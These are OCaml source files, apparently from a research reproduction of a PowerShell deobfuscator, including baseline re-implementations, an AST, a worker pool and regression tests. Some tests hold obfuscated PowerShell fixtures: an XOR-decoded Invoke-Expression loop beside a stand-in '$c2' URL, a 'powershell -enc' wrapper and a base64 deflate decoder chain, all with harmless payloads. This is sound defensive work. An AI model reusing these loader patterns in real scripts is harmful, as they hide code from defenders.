    (* merge adjacent same-kind regions so passthrough spans stay whole *)
    let rec merge = function
      | a :: b :: rest when a.kind = b.kind && a.stop = b.start ->
          merge ({ start = a.start; stop = b.stop; kind = a.kind } :: rest)
      | a :: rest -> a :: merge rest
      | [] -> []
    in
    merge regions
  end

let parseable_bytes regions =
  List.fold_left
    (fun acc r -> if r.kind = Parseable then acc + (r.stop - r.start) else acc)
    0 regions
