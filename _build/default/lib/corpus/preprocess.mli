(** Corpus preprocessing (paper §IV-B1): syntax validation, token-level
    filters, and structural deduplication. *)

type rejection =
  | Invalid_syntax
  | No_tokens
  | Unknown_commands
  | Single_string
  | Structural_duplicate

val rejection_name : rejection -> string

val structure_key : string -> string
(** The dedup key: the token stream with every string literal replaced by a
    placeholder, so family variants that differ only in URLs collapse. *)

val check_sample : string -> (unit, rejection) result
(** The per-sample filters, without dedup. *)

type outcome = {
  kept : string list;
  rejected : (string * rejection) list;
}

val run : string list -> outcome
(** The full pipeline; kept samples preserve input order. *)

val junk_samples : Pscommon.Rng.t -> string list
(** Non-PowerShell content of the kind rule-based file identification lets
    into the feeds (mail, HTML, binary, bare strings). *)
