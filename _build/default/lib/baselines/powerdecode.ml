(** PowerDecode re-implementation (Malandrone et al., ITASEC 2021).

    Mechanism: regex recovery rules for string concatenation and
    [.Replace(...)] chains, plus overriding functions driven by a
    "Unary Syntax Tree Model" loop that keeps peeling layers while the
    script shape is [<decoder>(<payload>)] — which makes it the strongest
    of the three regex tools on multi-layer samples (paper Table III) while
    still missing obfuscated IEX spellings.

    Ticks are {e not} removed (Table II: ticking ✗). *)

open Pscommon

let concat_re = lazy (Regexen.Regex.compile {|'([^']*)'\s*\+\s*'([^']*)'|})

let merge_concats script =
  let re = Lazy.force concat_re in
  let rec fix s iters =
    if iters = 0 then s
    else
      let s' = Regexen.Regex.replace re ~template:"'$1$2'" s in
      if String.equal s' s then s else fix s' (iters - 1)
  in
  fix script 64

(* 'text'.Replace('a','b') with literal arguments *)
let replace_re =
  lazy (Regexen.Regex.compile {|'([^']*)'\.replace\('([^']*)','([^']*)'\)|})

let resolve_replaces script =
  let re = Lazy.force replace_re in
  let rec fix s iters =
    if iters = 0 then s
    else
      let s' =
        Regexen.Regex.replace_f re
          ~f:(fun subj m ->
            let g i = Option.value ~default:"" (Regexen.Regex.group_text subj m i) in
            let text = g 1 and needle = g 2 and repl = g 3 in
            if needle = "" then Regexen.Regex.matched_text subj m
            else "'" ^ Strcase.replace_all ~needle ~replacement:repl text ^ "'")
          s
      in
      if String.equal s' s then s else fix s' (iters - 1)
  in
  fix script 16

let apply_rules script = resolve_replaces (merge_concats script)

let deobfuscate script =
  let cleaned = apply_rules script in
  (* Unary Syntax Tree Model: keep peeling while a layer emerges *)
  let final, _layers, events = Override.peel_layers ~max_layers:16 cleaned in
  let final = apply_rules final in
  { Tool.result = final; simulated_seconds = Tool.simulated_cost events }

let tool = { Tool.name = "PowerDecode"; deobfuscate }
