lib/pseval/members.ml: Array Buffer Char Encoding Env Format_op List Ops Printf Pscommon Psvalue String Value
