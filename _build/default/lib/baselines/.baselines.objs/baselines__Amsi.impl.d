lib/baselines/amsi.ml: List Pseval Psvalue Tool
