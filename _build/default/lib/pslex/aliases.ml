(* cmdlet, aliases — the subset of `Get-Alias` output that shows up in wild
   obfuscated scripts, plus every cmdlet the interpreter implements. *)
let table =
  [
    ("Invoke-Expression", [ "iex" ]);
    ("Invoke-WebRequest", [ "iwr"; "curl"; "wget" ]);
    ("Invoke-RestMethod", [ "irm" ]);
    ("Invoke-Command", [ "icm" ]);
    ("Invoke-Item", [ "ii" ]);
    ("Get-Content", [ "gc"; "cat"; "type" ]);
    ("Set-Content", [ "sc" ]);
    ("Add-Content", [ "ac" ]);
    ("Get-ChildItem", [ "gci"; "ls"; "dir" ]);
    ("Get-Item", [ "gi" ]);
    ("New-Item", [ "ni" ]);
    ("Remove-Item", [ "ri"; "rm"; "rmdir"; "del"; "erase"; "rd" ]);
    ("Copy-Item", [ "cpi"; "cp"; "copy" ]);
    ("Move-Item", [ "mi"; "mv"; "move" ]);
    ("Rename-Item", [ "rni"; "ren" ]);
    ("Get-Location", [ "gl"; "pwd" ]);
    ("Set-Location", [ "sl"; "cd"; "chdir" ]);
    ("Write-Output", [ "echo"; "write" ]);
    ("Where-Object", [ "where"; "?" ]);
    ("ForEach-Object", [ "foreach"; "%" ]);
    ("Select-Object", [ "select" ]);
    ("Sort-Object", [ "sort" ]);
    ("Measure-Object", [ "measure" ]);
    ("Compare-Object", [ "compare"; "diff" ]);
    ("Group-Object", [ "group" ]);
    ("Get-Member", [ "gm" ]);
    ("Get-Process", [ "gps"; "ps" ]);
    ("Stop-Process", [ "spps"; "kill" ]);
    ("Start-Process", [ "saps"; "start" ]);
    ("Get-Service", [ "gsv" ]);
    ("Start-Service", [ "sasv" ]);
    ("Stop-Service", [ "spsv" ]);
    ("Get-History", [ "ghy"; "h"; "history" ]);
    ("Get-Command", [ "gcm" ]);
    ("Get-Alias", [ "gal" ]);
    ("Set-Alias", [ "sal" ]);
    ("New-Alias", [ "nal" ]);
    ("Get-Variable", [ "gv" ]);
    ("Set-Variable", [ "sv"; "set" ]);
    ("New-Variable", [ "nv" ]);
    ("Remove-Variable", [ "rv" ]);
    ("Clear-Variable", [ "clv" ]);
    ("Clear-Host", [ "cls"; "clear" ]);
    ("Out-Host", [ "oh" ]);
    ("Out-Printer", [ "lp" ]);
    ("Format-List", [ "fl" ]);
    ("Format-Table", [ "ft" ]);
    ("Format-Wide", [ "fw" ]);
    ("Format-Custom", [ "fc" ]);
    ("Get-Help", [ "man"; "help" ]);
    ("Get-WmiObject", [ "gwmi" ]);
    ("Invoke-WmiMethod", [ "iwmi" ]);
    ("Start-Sleep", [ "sleep" ]);
    ("Start-Job", [ "sajb" ]);
    ("Receive-Job", [ "rcjb" ]);
    ("Get-Job", [ "gjb" ]);
    ("Select-String", [ "sls" ]);
    ("Tee-Object", [ "tee" ]);
    ("Write-Host", []);
    ("Out-Null", []);
    ("Out-String", []);
    ("Out-File", []);
    ("New-Object", []);
    ("Get-Date", []);
    ("Get-Random", []);
    ("Get-Host", []);
    ("Add-Type", []);
    ("Test-Path", []);
    ("Join-Path", []);
    ("Split-Path", []);
    ("ConvertTo-SecureString", []);
    ("ConvertFrom-SecureString", []);
    ("Restart-Computer", []);
    ("Stop-Computer", []);
    ("New-ItemProperty", []);
    ("Set-ItemProperty", []);
    ("Get-ItemProperty", []);
    ("Invoke-Deobfuscation", []);
  ]

open Pscommon

let alias_to_cmdlet =
  List.fold_left
    (fun acc (cmdlet, aliases) ->
      List.fold_left (fun acc a -> Strcase.Map.add a cmdlet acc) acc aliases)
    Strcase.Map.empty table

let cmdlet_index =
  List.fold_left
    (fun acc (cmdlet, aliases) -> Strcase.Map.add cmdlet (cmdlet, aliases) acc)
    Strcase.Map.empty table

let resolve name = Strcase.Map.find_opt name alias_to_cmdlet
let is_alias name = Strcase.Map.mem name alias_to_cmdlet

let aliases_of cmdlet =
  match Strcase.Map.find_opt cmdlet cmdlet_index with
  | Some (_, aliases) -> aliases
  | None -> []

let canonical_case name =
  match Strcase.Map.find_opt name cmdlet_index with
  | Some (canonical, _) -> Some canonical
  | None -> None

let known_cmdlets = List.map fst table
