(** Fixed-size domain pool with an atomic work queue.

    Determinism by construction: item [i]'s result is written only to slot
    [i], and slots are disjoint, so the result list is always in input
    order no matter how the scheduler interleaves the workers.  Worker
    domains inherit nothing ambient — {!Guard}'s deadline stack is
    domain-local, so a deadline installed in one worker can never leak
    into another. *)

let recommended_jobs () = Domain.recommended_domain_count ()

(* Scheduling metrics, aggregated across all pools of the process: how long
   items sat in the queue before a worker claimed them vs how long they ran,
   plus a per-domain task count (all Atomic-backed, so workers bump them
   concurrently and a snapshot at join time sees every domain's share). *)
let m_queue_wait = Telemetry.Metrics.histogram "pool.queue_wait_ms"
let m_run = Telemetry.Metrics.histogram "pool.run_ms"
let m_jobs = Telemetry.Metrics.gauge "pool.jobs"

let map ?(jobs = 1) f items =
  let items = Array.of_list items in
  let n = Array.length items in
  let jobs = max 1 (min jobs n) in
  if jobs <= 1 then Array.to_list (Array.map f items)
  else begin
    let results = Array.make n None in
    let next = Atomic.make 0 in
    Telemetry.Metrics.set m_jobs jobs;
    let started = Unix.gettimeofday () in
    let worker k () =
      let m_tasks =
        Telemetry.Metrics.counter (Printf.sprintf "pool.tasks.d%d" k)
      in
      let rec loop () =
        let i = Atomic.fetch_and_add next 1 in
        if i < n then begin
          let claimed = Unix.gettimeofday () in
          Telemetry.Metrics.observe m_queue_wait ((claimed -. started) *. 1000.0);
          let r = match f items.(i) with v -> Ok v | exception e -> Error e in
          Telemetry.Metrics.observe m_run
            ((Unix.gettimeofday () -. claimed) *. 1000.0);
          Telemetry.Metrics.incr m_tasks;
          results.(i) <- Some r;
          loop ()
        end
      in
      loop ()
    in
    (* the calling domain is worker number [jobs]; spawn the other jobs-1 *)
    let domains = List.init (jobs - 1) (fun k -> Domain.spawn (worker k)) in
    worker (jobs - 1) ();
    List.iter Domain.join domains;
    Array.to_list
      (Array.map
         (function
           | Some (Ok v) -> v
           | Some (Error e) -> raise e
           | None -> assert false (* every index was claimed and joined *))
         results)
  end

let iter ?jobs f items = ignore (map ?jobs f items)

(* ---------- persistent service pool ---------- *)

(* The daemon shape of the pool: instead of mapping one finite list, a
   fixed set of worker domains drains a bounded queue for the life of the
   process.  The bound is the admission-control contract — submit never
   blocks and never grows memory; when the queue is full the caller sheds
   the item (answers "overloaded") instead of queueing unboundedly. *)
module Service = struct
  let m_recycled = Telemetry.Metrics.counter "pool.service.recycled"
  let m_depth = Telemetry.Metrics.gauge "pool.service.depth"

  type 'a t = {
    mutex : Mutex.t;
    nonempty : Condition.t;
    queue : (float * 'a) Queue.t;  (* (enqueue time, item) *)
    cap : int;
    handler : 'a -> unit;
    mutable stopping : bool;
    inflight : int Atomic.t;
    mutable workers : unit Domain.t list;
  }

  let worker t () =
    let rec loop () =
      Mutex.lock t.mutex;
      while Queue.is_empty t.queue && not t.stopping do
        Condition.wait t.nonempty t.mutex
      done;
      if Queue.is_empty t.queue then Mutex.unlock t.mutex (* draining done *)
      else begin
        let enqueued, item = Queue.pop t.queue in
        Telemetry.Metrics.set m_depth (Queue.length t.queue);
        Mutex.unlock t.mutex;
        Telemetry.Metrics.observe m_queue_wait
          ((Unix.gettimeofday () -. enqueued) *. 1000.0);
        Atomic.incr t.inflight;
        let t0 = Unix.gettimeofday () in
        (* handlers are expected to be total (everything below them runs
           under Guard.protect); this catch is the recycling backstop — a
           handler bug or an injected pool fault costs one item, never a
           worker, and never the server *)
        (try t.handler item
         with e ->
           Telemetry.Metrics.incr m_recycled;
           (* black-box forensics before the worker moves on: the domain's
              flight ring still holds the spans the dying request recorded *)
           ignore
             (Telemetry.Flight.dump
                ~reason:("worker-recycled: " ^ Printexc.to_string e)
                ());
           Telemetry.Log.warn (fun () ->
               "service worker recycled: " ^ Printexc.to_string e));
        Telemetry.Metrics.observe m_run
          ((Unix.gettimeofday () -. t0) *. 1000.0);
        Atomic.decr t.inflight;
        loop ()
      end
    in
    loop ()

  let create ~jobs ~queue_cap handler =
    let t =
      { mutex = Mutex.create (); nonempty = Condition.create ();
        queue = Queue.create (); cap = max 1 queue_cap; handler;
        stopping = false; inflight = Atomic.make 0; workers = [] }
    in
    Telemetry.Metrics.set m_jobs (max 1 jobs);
    t.workers <- List.init (max 1 jobs) (fun _ -> Domain.spawn (worker t));
    t

  let submit t item =
    Mutex.lock t.mutex;
    let accepted =
      (not t.stopping) && Queue.length t.queue < t.cap
    in
    if accepted then begin
      Queue.push (Unix.gettimeofday (), item) t.queue;
      Telemetry.Metrics.set m_depth (Queue.length t.queue);
      Condition.signal t.nonempty
    end;
    Mutex.unlock t.mutex;
    accepted

  let depth t =
    Mutex.lock t.mutex;
    let n = Queue.length t.queue in
    Mutex.unlock t.mutex;
    n

  let inflight t = Atomic.get t.inflight

  let shutdown t =
    Mutex.lock t.mutex;
    t.stopping <- true;
    Condition.broadcast t.nonempty;
    Mutex.unlock t.mutex;
    List.iter Domain.join t.workers;
    t.workers <- []
end
