(** PowerShell abstract syntax trees.

    The node taxonomy mirrors [System.Management.Automation.Language]: the
    deobfuscator's logic is phrased in terms of the same node kinds the paper
    uses (PipelineAst, BinaryExpressionAst, ConvertExpressionAst,
    InvokeMemberExpressionAst, SubExpressionAst, …).  Every node carries its
    source extent, which is what allows recovery results to be spliced back
    {e in place}. *)

open Pscommon

type assign_op = Assign | Plus_assign | Minus_assign | Times_assign | Div_assign | Mod_assign

type binop =
  | Add | Sub | Mul | Div | Mod
  | Format  (** [-f] *)
  | Range  (** [..] *)
  | Eq | Ne | Gt | Ge | Lt | Le
  | Like | Notlike | Match | Notmatch
  | Replace  (** [-replace] and its c/i variants *)
  | Split | Join
  | Contains | Notcontains | In_op | Notin
  | Is_op | Isnot | As_op
  | Band | Bor | Bxor | Shl | Shr
  | And_op | Or_op | Xor_op

type unop =
  | Not  (** [!] / [-not] *)
  | Negate
  | Unary_plus
  | Bnot
  | Usplit  (** unary [-split] *)
  | Ujoin  (** unary [-join] *)
  | Incr  (** [++] prefix *)
  | Decr

type quote_kind = Bare | Single_quoted | Double_quoted | Single_here | Double_here

type variable = {
  var_name : string;  (** name without [$]; ["env:path"] keeps the drive *)
  var_splat : bool;
}

type number = Int_lit of int | Float_lit of float

type invocation = Inv_normal | Inv_call  (** [&] *) | Inv_dot  (** [.] *)

type t = { node : node; extent : Extent.t }

and node =
  (* structure *)
  | Script_block of script_block  (** ScriptBlockAst *)
  | Named_block of string * t  (** NamedBlockAst: [begin]/[process]/[end] *)
  | Statement_block of t list  (** StatementBlockAst: [{ stmts }] *)
  | Pipeline of t list  (** PipelineAst; elements are commands or
                            command-expressions *)
  | Assignment of assign_op * t * t  (** AssignmentStatementAst *)
  | If_stmt of (t * t) list * t option  (** IfStatementAst: clauses, else *)
  | While_stmt of t * t  (** WhileStatementAst *)
  | Do_while_stmt of t * t
  | Do_until_stmt of t * t
  | For_stmt of t option * t option * t option * t  (** ForStatementAst *)
  | Foreach_stmt of t * t * t  (** ForEachStatementAst: var, collection, body *)
  | Switch_stmt of t * (t * t) list * t option  (** value, cases, default *)
  | Function_def of string * string list * t  (** name, params, body block *)
  | Param_block of string list
  | Return_stmt of t option
  | Break_stmt
  | Continue_stmt
  | Throw_stmt of t option
  | Exit_stmt of t option
  | Try_stmt of t * (string list * t) list * t option  (** body, catches, finally *)
  | Trap_stmt of t
  (* commands *)
  | Command of command  (** CommandAst *)
  | Command_expression of t  (** CommandExpressionAst: expression as a
                                 pipeline element *)
  (* expressions *)
  | Binary_expr of binop * bool option * t * t
      (** BinaryExpressionAst; the flag records explicit case sensitivity:
          [Some true] for [-creplace], [Some false] for [-ireplace] *)
  | Unary_expr of unop * t  (** UnaryExpressionAst *)
  | Postfix_expr of unop * t  (** [$i++] *)
  | Convert_expr of string * t  (** ConvertExpressionAst: [\[type\] expr] *)
  | Type_literal of string  (** TypeExpressionAst *)
  | Variable_expr of variable  (** VariableExpressionAst *)
  | Member_access of t * member * bool  (** MemberExpressionAst; true = [::] *)
  | Invoke_member of t * member * t list * bool
      (** InvokeMemberExpressionAst; true = [::] *)
  | Index_expr of t * t  (** IndexExpressionAst *)
  | String_const of string * quote_kind  (** StringConstantExpressionAst *)
  | Expandable_string of string * expand_part list
      (** ExpandableStringExpressionAst: processed value skeleton + parts *)
  | Number_const of number  (** ConstantExpressionAst *)
  | Array_literal of t list  (** ArrayLiteralAst: [a,b,c] *)
  | Array_expr of t list  (** ArrayExpressionAst: [@( )]; statements inside *)
  | Hash_literal of (t * t) list  (** HashtableAst *)
  | Sub_expr of t list  (** SubExpressionAst: [$( )]; statements inside *)
  | Paren_expr of t  (** ParenExpressionAst *)
  | Script_block_expr of script_block  (** ScriptBlockExpressionAst *)

and script_block = {
  sb_params : string list;  (** param(...) names, if any *)
  sb_statements : t list;
}

and command = {
  cmd_invocation : invocation;
  cmd_elements : command_element list;
}

and command_element =
  | Elem_name of t
      (** first element: bareword string constant, or any expression after
          [&] / [.] *)
  | Elem_parameter of string * t option  (** [-Name] or [-Name:value] *)
  | Elem_argument of t
  | Elem_redirection of string

and member = Member_name of string | Member_dynamic of t

and expand_part =
  | Part_text of string
  | Part_variable of variable * Extent.t
  | Part_subexpr of t

(* ---------- constructors / accessors ---------- *)

let make node extent = { node; extent }

let command_name cmd =
  match cmd.cmd_elements with
  | Elem_name { node = String_const (s, _); _ } :: _ -> Some s
  | _ -> None

(* ---------- node-kind names (paper terminology) ---------- *)

let kind_name t =
  match t.node with
  | Script_block _ -> "ScriptBlockAst"
  | Named_block _ -> "NamedBlockAst"
  | Statement_block _ -> "StatementBlockAst"
  | Pipeline _ -> "PipelineAst"
  | Assignment _ -> "AssignmentStatementAst"
  | If_stmt _ -> "IfStatementAst"
  | While_stmt _ -> "WhileStatementAst"
  | Do_while_stmt _ -> "DoWhileStatementAst"
  | Do_until_stmt _ -> "DoUntilStatementAst"
  | For_stmt _ -> "ForStatementAst"
  | Foreach_stmt _ -> "ForEachStatementAst"
  | Switch_stmt _ -> "SwitchStatementAst"
  | Function_def _ -> "FunctionDefinitionAst"
  | Param_block _ -> "ParamBlockAst"
  | Return_stmt _ -> "ReturnStatementAst"
  | Break_stmt -> "BreakStatementAst"
  | Continue_stmt -> "ContinueStatementAst"
  | Throw_stmt _ -> "ThrowStatementAst"
  | Exit_stmt _ -> "ExitStatementAst"
  | Try_stmt _ -> "TryStatementAst"
  | Trap_stmt _ -> "TrapStatementAst"
  | Command _ -> "CommandAst"
  | Command_expression _ -> "CommandExpressionAst"
  | Binary_expr _ -> "BinaryExpressionAst"
  | Unary_expr _ -> "UnaryExpressionAst"
  | Postfix_expr _ -> "UnaryExpressionAst"
  | Convert_expr _ -> "ConvertExpressionAst"
  | Type_literal _ -> "TypeExpressionAst"
  | Variable_expr _ -> "VariableExpressionAst"
  | Member_access _ -> "MemberExpressionAst"
  | Invoke_member _ -> "InvokeMemberExpressionAst"
  | Index_expr _ -> "IndexExpressionAst"
  | String_const _ -> "StringConstantExpressionAst"
  | Expandable_string _ -> "ExpandableStringExpressionAst"
  | Number_const _ -> "ConstantExpressionAst"
  | Array_literal _ -> "ArrayLiteralAst"
  | Array_expr _ -> "ArrayExpressionAst"
  | Hash_literal _ -> "HashtableAst"
  | Sub_expr _ -> "SubExpressionAst"
  | Paren_expr _ -> "ParenExpressionAst"
  | Script_block_expr _ -> "ScriptBlockExpressionAst"

(* ---------- children ---------- *)

let option_to_list = function Some x -> [ x ] | None -> []

let children t =
  match t.node with
  | Script_block sb -> sb.sb_statements
  | Named_block (_, body) -> [ body ]
  | Statement_block stmts -> stmts
  | Pipeline elems -> elems
  | Assignment (_, lhs, rhs) -> [ lhs; rhs ]
  | If_stmt (clauses, else_) ->
      List.concat_map (fun (c, b) -> [ c; b ]) clauses @ option_to_list else_
  | While_stmt (cond, body) -> [ cond; body ]
  | Do_while_stmt (body, cond) -> [ body; cond ]
  | Do_until_stmt (body, cond) -> [ body; cond ]
  | For_stmt (init, cond, step, body) ->
      option_to_list init @ option_to_list cond @ option_to_list step @ [ body ]
  | Foreach_stmt (v, coll, body) -> [ v; coll; body ]
  | Switch_stmt (value, cases, default) ->
      (value :: List.concat_map (fun (c, b) -> [ c; b ]) cases)
      @ option_to_list default
  | Function_def (_, _, body) -> [ body ]
  | Param_block _ -> []
  | Return_stmt e -> option_to_list e
  | Break_stmt | Continue_stmt -> []
  | Throw_stmt e -> option_to_list e
  | Exit_stmt e -> option_to_list e
  | Try_stmt (body, catches, finally) ->
      (body :: List.map snd catches) @ option_to_list finally
  | Trap_stmt body -> [ body ]
  | Command cmd ->
      List.concat_map
        (function
          | Elem_name e -> [ e ]
          | Elem_parameter (_, arg) -> option_to_list arg
          | Elem_argument e -> [ e ]
          | Elem_redirection _ -> [])
        cmd.cmd_elements
  | Command_expression e -> [ e ]
  | Binary_expr (_, _, a, b) -> [ a; b ]
  | Unary_expr (_, e) -> [ e ]
  | Postfix_expr (_, e) -> [ e ]
  | Convert_expr (_, e) -> [ e ]
  | Type_literal _ -> []
  | Variable_expr _ -> []
  | Member_access (obj, m, _) -> (
      obj :: (match m with Member_dynamic e -> [ e ] | Member_name _ -> []))
  | Invoke_member (obj, m, args, _) ->
      (obj :: (match m with Member_dynamic e -> [ e ] | Member_name _ -> []))
      @ args
  | Index_expr (obj, idx) -> [ obj; idx ]
  | String_const _ -> []
  | Expandable_string (_, parts) ->
      List.concat_map
        (function
          | Part_text _ -> [] | Part_variable _ -> [] | Part_subexpr e -> [ e ])
        parts
  | Number_const _ -> []
  | Array_literal elems -> elems
  | Array_expr stmts -> stmts
  | Hash_literal pairs -> List.concat_map (fun (k, v) -> [ k; v ]) pairs
  | Sub_expr stmts -> stmts
  | Paren_expr e -> [ e ]
  | Script_block_expr sb -> sb.sb_statements

(* ---------- traversal ---------- *)

(** Post-order fold: children before parents, which guarantees that when the
    reconstruction visits a node, all nested obfuscated pieces inside it have
    already been recovered (paper §III-B5). *)
let rec fold_post_order f acc t =
  let acc = List.fold_left (fold_post_order f) acc (children t) in
  f acc t

let rec iter_post_order f t =
  List.iter (iter_post_order f) (children t);
  f t

let rec fold_pre_order f acc t =
  let acc = f acc t in
  List.fold_left (fold_pre_order f) acc (children t)

(** Post-order fold that also passes the chain of ancestors (nearest
    first) — variable tracing needs the parent (assignment detection) and the
    enclosing loop/conditional context. *)
let fold_post_order_with_ancestors f acc t =
  let rec go ancestors acc t =
    let acc = List.fold_left (go (t :: ancestors)) acc (children t) in
    f ancestors acc t
  in
  go [] acc t

let count_nodes t = fold_pre_order (fun n _ -> n + 1) 0 t

(** Text of the node in the original source. *)
let text src t = Extent.text src t.extent
