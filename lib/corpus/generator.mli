(** Wild-corpus generation: clean template instances paired with their
    obfuscated forms, with ground truth the wild corpus never has. *)

type sample = {
  id : int;
  family : string;  (** template name *)
  clean : string;  (** pre-obfuscation script *)
  obfuscated : string;
  techniques : Obfuscator.Technique.t list;
}

val generate : seed:int -> count:int -> sample list
(** Wild-style samples following the paper's Table I level distribution.
    Deterministic in [seed]. *)

val generate_sized :
  seed:int -> count:int -> min_bytes:int -> max_bytes:int -> sample list
(** Samples whose obfuscated form fits a byte window — the paper's
    100-sample selection is 97 B–2 KB (§IV-C2). *)

val generate_hard : seed:int -> count:int -> sample list
(** Multi-template scripts with stacked layers, obfuscated launchers and
    embedded binary payloads — the Table V "most obfuscated" workload. *)

val generate_dynamic : seed:int -> count:int -> sample list
(** Samples obfuscated with exactly one dynamic-assembly technique
    ({!Obfuscator.Technique.dynamic}, cycled round-robin) — loop-built
    strings, [+=]/[-join] accumulators, conditional payload selection.
    Static tracing alone cannot fold these; the dynamic-provenance bench
    gates on recovering them. *)

val generate_multilayer :
  seed:int -> count:int -> min_depth:int -> max_depth:int -> sample list
(** Scripts wrapped in stacked L3 layers (Table III); every clean script
    carries at least one key indicator to check recovery against. *)
