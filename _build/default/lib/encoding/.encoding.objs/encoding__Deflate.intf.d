lib/encoding/deflate.mli:
