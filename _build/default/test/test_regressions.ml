(* Regression suite: every bug found while building this reproduction, as a
   minimal failing case.  Each test names the original symptom. *)

module Value = Psvalue.Value

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let eval_str src =
  let env = Pseval.Env.create () in
  match Pseval.Interp.invoke_piece env src with
  | Ok v -> Value.to_string v
  | Error msg -> Alcotest.fail (src ^ " -> " ^ msg)

let valid = Psparse.Parser.is_valid_syntax

(* the lexer treated `-contains`'s leading 'c' as the case-sensitivity
   prefix, leaving a nonexistent '-ontains' operator *)
let test_contains_not_case_prefixed () =
  check_b "contains parses" true (valid "(1,2,3) -contains 2");
  check_b "isnot parses" true (valid "$x -isnot [int]");
  check_s "contains evaluates" "True" (eval_str "(1,2,3) -contains 2");
  (* explicit prefixes still work *)
  check_s "ccontains is case-sensitive" "False" (eval_str "('A') -ccontains 'a'");
  check_s "contains is caseless" "True" (eval_str "('A') -contains 'a'")

(* commas inside method-call argument lists were folded into one array
   argument, so ToInt32($_, 16) saw a single Object[] *)
let test_method_args_not_array () =
  check_i "two args" 104 (int_of_string (eval_str "[convert]::ToInt32('68',16)"))

(* the RHS of an assignment lexed in expression mode, so `$x = write-host 1`
   tokenized write-host as an argument *)
let test_assignment_rhs_command_context () =
  check_b "rhs command" true (valid "$x = write-host hello");
  check_s "rhs command canonicalised" "$x = Write-Host hello"
    (Deobf.Token_phase.run "$x = wRiTe-HoSt hello")

(* '%' at command position is the ForEach-Object alias, not modulo *)
let test_percent_alias () =
  check_s "percent" "2" (eval_str "(1 | % { $_ * 2 }) -join ''")

(* whitespace after '.'/'::' before a member name is legal PowerShell *)
let test_member_spacing () =
  check_b "space after dot" true (valid "$a. Length");
  check_b "space after colons" true (valid "[convert]:: ToInt32('1',10)")

(* `powershell -enc <b64>` with the value as a separate bareword argument
   was not recognised by the static unwrapper *)
let test_enc_param_separate_argument () =
  let b64 = Encoding.Base64.encode (Encoding.Utf16.encode "write-host e2e") in
  let out =
    (Deobf.Engine.run (Printf.sprintf "powershell -eNc %s" b64)).Deobf.Engine.output
  in
  check_b "unwrapped" true
    (Pscommon.Strcase.contains ~needle:"write-host e2e" out)

(* renaming desynchronised outer variables from names defined inside a
   still-encoded IEX payload *)
let test_rename_skipped_with_residual_payload () =
  let script =
    "$c2 = 'http://live.example/t'\n\
     $k = '71-71'\n\
     for ($i = 0; $i -lt 2; $i++) {\n\
     $p = '16-74'\n\
     Invoke-Expression ((($k + $p) -split '-' | ForEach-Object { [char]($_ -bxor '0x67') }) -join '')\n\
     }"
  in
  let out = (Deobf.Engine.run script).Deobf.Engine.output in
  check_b "original variable names kept" true
    (Pscommon.Strcase.contains ~needle:"$c2" out)

(* replacing a decoded byte array with an int-literal list exploded a 685 KB
   sample into 1.1 MB of digits *)
let test_recovery_never_grows_pieces () =
  let rng = Pscommon.Rng.of_int 2 in
  let ob =
    Obfuscator.Obfuscate.apply rng Obfuscator.Technique.Enc_ascii
      "write-host growth-check"
  in
  let out = (Deobf.Engine.run ob).Deobf.Engine.output in
  check_b "output smaller than input" true (String.length out <= String.length ob)

(* ticking inside command ARGUMENTS (listing 2's nET.wE`bcLiEnT) survived
   the token phase *)
let test_argument_ticks_removed () =
  check_s "argument de-ticked" "New-Object Net.WebClient"
    (Deobf.Token_phase.run "nEw-oBjEcT nET.wE`bcLiEnT")

(* backtick escape letters outside strings are literal: we`bclient must not
   become a backspace *)
let test_bareword_backtick_literal () =
  let toks = Pslex.Lexer.tokenize_exn "we`bclient" in
  check_s "literal b" "webclient" (List.hd toks).Pslex.Token.content

(* `$a = 1 $b = 2` on one line is a syntax error, not two statements *)
let test_statement_separator_required () =
  check_b "missing separator rejected" true (not (valid "$a = 1 $b = 2"));
  check_b "blocks chain freely" true (valid "function f {} function g {}")

(* statement-level `$i++` must not emit its value into the output stream *)
let test_increment_statement_silent () =
  check_s "no spurious output" "6" (eval_str "$i = 5; $i++; $i")

(* the whitespace encoder could not represent newlines (codes < 32) *)
let test_whitespace_encoding_multiline_payload () =
  let rng = Pscommon.Rng.of_int 77 in
  let payload = "write-host a\nwrite-host b" in
  let ob = Obfuscator.Obfuscate.apply rng Obfuscator.Technique.Enc_whitespace payload in
  let report = Sandbox.run ob in
  Alcotest.(check (list string))
    "both lines execute" [ "a"; "b" ]
    (List.map Value.to_string report.Sandbox.host_output)

(* hash literals after a ';' inside @{ } lexed keys in the wrong context *)
let test_hash_multiple_entries () =
  check_s "second entry readable" "two"
    (eval_str "$h = @{a=1;b='two'}; $h['b']")

(* New-Object Type(a, b) passes its parenthesised list as -ArgumentList *)
let test_new_object_paren_arguments () =
  let payload = "write-output 'ctor-args'" in
  let b64 = Encoding.Base64.encode (Encoding.Deflate.deflate payload) in
  check_s "deflate ctor chain" payload
    (eval_str
       (Printf.sprintf
          "(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('%s'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
          b64))

(* range after a value: 1..3 used to die as a malformed number *)
let test_range_after_value () =
  check_s "range" "123" (eval_str "(1..3) -join ''")

let suite =
  [
    ("-contains prefix", `Quick, test_contains_not_case_prefixed);
    ("method args not array", `Quick, test_method_args_not_array);
    ("assignment rhs command", `Quick, test_assignment_rhs_command_context);
    ("percent alias", `Quick, test_percent_alias);
    ("member spacing", `Quick, test_member_spacing);
    ("enc param separate argument", `Quick, test_enc_param_separate_argument);
    ("rename skipped with residual payload", `Quick, test_rename_skipped_with_residual_payload);
    ("recovery never grows", `Quick, test_recovery_never_grows_pieces);
    ("argument ticks removed", `Quick, test_argument_ticks_removed);
    ("bareword backtick literal", `Quick, test_bareword_backtick_literal);
    ("statement separator required", `Quick, test_statement_separator_required);
    ("increment statement silent", `Quick, test_increment_statement_silent);
    ("whitespace encoding multiline", `Quick, test_whitespace_encoding_multiline_payload);
    ("hash multiple entries", `Quick, test_hash_multiple_entries);
    ("new-object paren arguments", `Quick, test_new_object_paren_arguments);
    ("range after value", `Quick, test_range_after_value);
  ]
