(** PowerDrive re-implementation (Ugarte et al., DIMVA 2019).

    Mechanism: regex cleaning rules — backtick removal, merging of
    concatenated string literals, multi-line collapse — plus a single round
    of IEX overriding.

    Documented failure modes reproduced here: the multi-line → one-line
    transform joins statements without separators and regularly breaks
    syntax (paper Fig 8(b)); the concatenation regex merges quoted fragments
    without regard for context; only one override layer is peeled. *)

let tick_re = lazy (Regexen.Regex.compile "`")

